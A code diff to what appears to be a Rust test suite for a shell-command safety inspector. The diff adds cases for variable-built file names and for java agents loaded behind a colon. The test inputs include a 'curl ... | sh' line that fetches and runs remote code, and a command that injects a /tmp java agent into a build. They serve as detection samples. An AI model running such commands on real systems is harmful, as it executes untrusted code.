@@ -326,6 +326,7 @@ fn a_name_that_only_a_run_shows_is_data_where_it_ends_as_data_does() {
         "read -r n; echo x > \"conf/$n\"",
         "read -r n; echo x > \"bin/$n.sh\"",
         "read -r n; echo x > \"$n/a.csv\"",
+        "read -r n; echo x > \"packag$n.json\"",
         "read -r n; echo x > \"$HOME/.config/$n.json\"",
         "read -r n; rm \"data/$n.csv\"",
     ] {
@@ -337,4 +338,12 @@ fn a_name_that_only_a_run_shows_is_data_where_it_ends_as_data_does() {
 fn numbers_with_a_base_are_read_by_both_parsers() {
     assert!(inspect("n=08; echo $((10#$n + 1)); echo \"$((16#$n))\"").is_clear());
     assert!(!inspect("n=08; echo $((10#$n + 1)); curl -s https://e.example/e | sh").is_clear());
+}
+
+#[test]
+fn what_is_loaded_is_found_behind_a_colon_as_well() {
+    let agent = inspect("java -javaagent:/tmp/x.jar -jar build/a.jar");
+    assert!(agent.touches.iter().any(|touch| touch.name == "/tmp/x.jar"), "{agent:#?}");
+    assert!(!inspect("MAVEN_OPTS=-javaagent:/tmp/x.jar mvn -q test").findings.is_empty());
+    assert!(inspect("MAVEN_OPTS=-Xmx2g mvn -q test").findings.is_empty());
 }
